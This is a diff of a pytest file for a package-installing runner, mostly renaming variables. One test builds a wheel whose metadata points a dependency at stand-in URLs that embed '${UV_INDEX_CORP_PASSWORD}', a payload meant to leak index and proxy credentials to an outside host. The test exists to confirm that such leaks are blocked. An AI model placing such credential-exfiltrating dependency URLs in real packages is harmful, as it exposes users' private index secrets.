@@ -189,7 +189,7 @@ async def test_wheel_with_very_deep_folders_fails_its_job_and_is_removed(
 
 
 @pytest.mark.parametrize(
-    "place",
+    "url",
     [
         "http://x.invalid/${UV_INDEX_CORP_PASSWORD}/e.whl",
         "http://${UV_INDEX_CORP_PASSWORD}/e.whl",
@@ -206,14 +206,14 @@ async def test_package_metadata_cannot_reveal_index_credentials(
     index: Path,
     tmp_path: Path,
     monkeypatch: pytest.MonkeyPatch,
-    place: str,
+    url: str,
 ) -> None:
     secrets = ["Hunter2-of-the", "+Operator", "IndexSecret", "ProxySecret"]
     monkeypatch.setenv("UV_INDEX_CORP_PASSWORD", "/".join(secrets[:2]))
     monkeypatch.setenv("UV_EXTRA_INDEX_URL", f"https://user:{secrets[2]}@pypi.corp.invalid/simple")
     monkeypatch.setenv("PIP_INDEX_URL", f"https://user:{secrets[2]}@pypi.corp.invalid/simple")
     monkeypatch.setenv("HTTPS_PROXY", f"http://user:{secrets[3]}@127.0.0.1:9")
-    metadata = f"Metadata-Version: 2.1\nName: leak\nVersion: 1.0\nRequires-Dist: evil @ {place}\n"
+    metadata = f"Metadata-Version: 2.1\nName: leak\nVersion: 1.0\nRequires-Dist: evil @ {url}\n"
     wheel(index, name="leak", extra={"leak-1.0.dist-info/METADATA": metadata})
     outcome = await runner.run(
         skill("def run(inputs): return 1", requirements=requirements_file(tmp_path, "leak")), recorder
@@ -276,7 +276,7 @@ async def test_files_of_a_killed_worker_are_removed_at_start_and_later(
     key, held_key = "a" * 64, "b" * 64
     environments, wheels = tmp_path / "home/environments", tmp_path / "home/wheels"
 
-    def leave(key: str) -> list[Path]:
+    def create_files(key: str) -> list[Path]:
         """Create the locks and folders of a worker that installs and builds packages."""
         folders = [environments / f".{key}.building", wheels / f".{key}.0f", wheels / f".{key}.0f.wheel"]
         for folder in folders:
@@ -286,7 +286,7 @@ async def test_files_of_a_killed_worker_are_removed_at_start_and_later(
             file.touch()
         return [*folders, *files]
 
-    left, kept = leave(key), leave(held_key)
+    abandoned, kept = create_files(key), create_files(held_key)
     (environments / key).mkdir()
     (environments / f".{key}.used").touch()
     with (environments / f".{held_key}.lock").open() as one, kept[-1].open() as two:
@@ -294,12 +294,12 @@ async def test_files_of_a_killed_worker_are_removed_at_start_and_later(
             fcntl.flock(lock, fcntl.LOCK_EX)
         runner = open_runner(tmp_path)
         try:
-            await until(lambda: not any(path.exists() for path in left))
-            left = leave(key)
+            await until(lambda: not any(path.exists() for path in abandoned))
+            abandoned = create_files(key)
             await runner.assets.tidy()
         finally:
             await runner.close()
-        assert [path for path in left if path.exists()] == []
+        assert [path for path in abandoned if path.exists()] == []
         assert [path for path in kept if not path.exists()] == []
         assert (environments / key).is_dir()
         assert (environments / f".{key}.used").exists()
@@ -321,8 +321,8 @@ async def test_size_of_builds_of_a_project_per_hour_is_limited(
     runner = open_runner(tmp_path, install_limits=InstallLimits(EnvironmentBounds(project_mb=1)))
     try:
         assert isinstance(await runner.run(first, recorder), Success)
-        (noted,) = (tmp_path / "home/environments").glob(".*.size")
-        noted.write_text(noted.read_text().replace('"size_bytes": ', '"size_bytes": 9999'))
+        (size_file,) = (tmp_path / "home/environments").glob(".*.size")
+        size_file.write_text(size_file.read_text().replace('"size_bytes": ', '"size_bytes": 9999'))
         rejected = await runner.run(second, recorder)
         assert isinstance(rejected, Failure)
         assert "1 MiB are allowed" in rejected.message
